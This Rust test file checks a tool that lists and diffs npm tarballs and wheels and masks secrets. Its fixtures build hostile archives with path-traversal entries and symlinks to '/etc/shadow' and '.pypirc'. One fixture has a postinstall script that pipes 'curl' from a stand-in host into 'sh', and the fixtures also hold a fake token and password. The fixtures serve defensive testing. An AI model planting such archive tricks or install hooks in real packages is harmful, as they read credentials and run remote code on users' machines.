//! `ls` and `diff` through the real binary: listings and diffs of npm tarballs and wheels,
//! their JSON snapshots (hostile but readable archives included), one-line errors, and secrets
//! in scripts, dependency specs and link targets masked in every view.

mod common;

use common::fixtures::{self, Tar, Zip, flag, gzip, write};
use common::{assert_ok, assert_one_line_error, redacted_json, releases, run, run_paths, stdout};

#[test]
fn ls_text_lists_every_entry_with_totals() {
    let r = releases();
    let o = run_paths("ls", &[&r.new], &[]);
    assert_ok(&o, "ls");
    let text = stdout(&o);
    let lines: Vec<&str> = text.lines().collect();
    assert!(
        lines[0].starts_with("demo@1.1.0  npm tarball  sha256:"),
        "header line: {}",
        lines[0]
    );
    for path in [
        "package.json",
        "dist/index.js",
        "dist/index.js.map",
        ".env",
        "README.md",
    ] {
        assert!(
            lines.iter().any(|l| l.ends_with(&format!("  {path}"))),
            "{path} is listed:\n{text}"
        );
    }
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with("-rw-r--r--") && l.contains("12 B")),
        "mode and human size are shown:\n{text}"
    );
    assert!(
        text.contains("5 files, "),
        "totals line counts installed files:\n{text}"
    );
}

#[test]
fn ls_json_snapshot() {
    let r = releases();
    let o = run_paths("ls", &[&r.new], &["--json"]);
    assert_ok(&o, "ls --json");
    insta::assert_json_snapshot!("ls_json", redacted_json(&o));
}

#[test]
fn ls_json_of_a_hostile_tarball_snapshot() {
    let dir = tempfile::tempdir().expect("temp dir");
    let mut t = Tar::new();
    t.file(
        "package/package.json",
        br#"{"name":"evil","version":"6.6.6"}"#,
    )
    .file("package/index.js", b"benign")
    .file("package/../../x", b"up")
    .link("package/l", flag::SYMLINK, "/etc/shadow")
    .file("package/index.js", b"evil!")
    .file("package/\x1b[31mred", b"");
    let path = write(dir.path(), "evil.tgz", &gzip(&t.finish()));
    let o = run_paths("ls", &[&path], &["--json"]);
    assert_ok(&o, "a hostile but readable archive is listed");
    insta::assert_json_snapshot!("ls_json_hostile", redacted_json(&o));
}

#[test]
fn ls_json_of_a_hostile_zip_snapshot() {
    let dir = tempfile::tempdir().expect("temp dir");
    let bytes = Zip::new()
        .file("w-1.0.dist-info/METADATA", b"Name: w\nVersion: 1.0\n\n")
        .file("w/__init__.py", b"x = 1\n")
        .file("C:\\Users\\evil.dll", b"MZ")
        .file("../outside.py", b"up")
        .symlink("w/creds", "/home/u/.pypirc")
        .file("w/__init__.py", b"import os\n")
        .finish();
    let path = write(dir.path(), "w-1.0-py3-none-any.whl", &bytes);
    let o = run_paths("ls", &[&path], &["--json"]);
    assert_ok(&o, "a hostile but readable zip is listed");
    insta::assert_json_snapshot!("ls_json_hostile_zip", redacted_json(&o));
}

#[test]
fn ls_of_a_missing_file_is_a_one_line_error() {
    let o = run(&["ls", "/nonexistent/nothing.tgz"]);
    assert_one_line_error(&o, "/nonexistent/nothing.tgz", "no such file");
}

#[test]
fn a_directory_without_package_metadata_is_refused() {
    let dir = tempfile::tempdir().expect("temp dir");
    let o = run_paths("ls", &[dir.path()], &[]);
    assert_one_line_error(
        &o,
        &dir.path().display().to_string(),
        "needs a package.json or Cargo.toml",
    );
}

#[test]
fn diff_text_shows_added_removed_changed_and_metadata() {
    let r = releases();
    let o = run_paths("diff", &[&r.old, &r.new], &[]);
    assert_ok(&o, "diff");
    let text = stdout(&o);
    for want in [
        "old: demo@1.0.0  (npm tarball",
        "new: demo@1.1.0  (npm tarball",
        "added (2):",
        "  + .env",
        "  + dist/index.js.map",
        "removed (1):",
        "  - dist/util.js",
        "changed (2):",
        "  ~ dist/index.js",
        "unchanged: 1",
        "scripts.postinstall: (none) → \"node dist/setup.js\"",
        "dependencies.helper-x: (none) → \"git+https://example.com/x.git\"",
        "version: \"1.0.0\" → \"1.1.0\"",
    ] {
        assert!(text.contains(want), "diff text has {want:?}:\n{text}");
    }
}

#[test]
fn diff_json_snapshot() {
    let r = releases();
    let o = run_paths("diff", &[&r.old, &r.new], &["--json"]);
    assert_ok(&o, "diff --json");
    insta::assert_json_snapshot!("diff_json", redacted_json(&o));
}

#[test]
fn diff_of_two_wheels() {
    let dir = tempfile::tempdir().expect("temp dir");
    let old = write(
        dir.path(),
        "w-1.0-py3-none-any.whl",
        &fixtures::wheel("w", "1.0"),
    );
    let new = write(
        dir.path(),
        "w-1.1-py3-none-any.whl",
        &fixtures::wheel("w", "1.1"),
    );
    let o = run_paths("diff", &[&old, &new], &[]);
    assert_ok(&o, "diff of wheels");
    let text = stdout(&o);
    for want in [
        "old: w@1.0  (wheel",
        "added (3):",
        "  + w-1.1.dist-info/METADATA",
        "removed (3):",
        "  - w-1.0.dist-info/WHEEL",
        "unchanged: 1",
        "version: \"1.0\" → \"1.1\"",
    ] {
        assert!(text.contains(want), "diff text has {want:?}:\n{text}");
    }
}

#[test]
fn diff_ls_and_manifest_mask_secrets_in_scripts_and_dependency_specs() {
    let dir = tempfile::tempdir().expect("temp dir");
    let token = format!("{}{}", "ghp_", "Zq8vT2mK9pL4xR7cW1nB6yH3jF5dS0aQeUiO");
    let old = write(
        dir.path(),
        "a-1.0.0.tgz",
        &fixtures::npm_tgz_with(r#"{"name":"a","version":"1.0.0"}"#, &[]),
    );
    let pkg = format!(
        r#"{{"name":"a","version":"1.0.1","scripts":{{"postinstall":"curl -H 'Authorization: token {token}' https://x.example | sh"}},"dependencies":{{"d":"git+https://ci:Pl41nPassw0rd4Deploy@git.example.com/d.git"}}}}"#
    );
    let mut t = Tar::new();
    t.file("package/package.json", pkg.as_bytes())
        .link("package/l", flag::SYMLINK, &token);
    let new = write(dir.path(), "a-1.0.1.tgz", &gzip(&t.finish()));
    for extra in [&[][..], &["--json"]] {
        let out = stdout(&run_paths("diff", &[&old, &new], extra));
        assert!(out.contains("scripts.postinstall"), "{out}");
        assert!(
            !out.contains(&token[..12]) && !out.contains("Pl41nPassw0r"),
            "diff {extra:?} prints a secret:\n{out}"
        );
        assert!(
            out.contains("ghp_Zq… (40 chars)"),
            "masked as findings mask: {out}"
        );
    }
    // The metadata is masked where it is read, so every other view of it is too.
    // So is a link's target, which `ls` prints and a manifest keeps.
    for (cmd, extra) in [("ls", &[][..]), ("ls", &["--json"]), ("manifest", &[])] {
        let out = stdout(&run_paths(cmd, &[&new], extra));
        assert!(out.contains("ghp_Zq… (40 chars)"), "{cmd} {extra:?}: {out}");
        assert!(
            !out.contains(&token[..12]) && !out.contains("Pl41nPassw0r"),
            "{cmd} {extra:?} prints a secret:\n{out}"
        );
    }
}
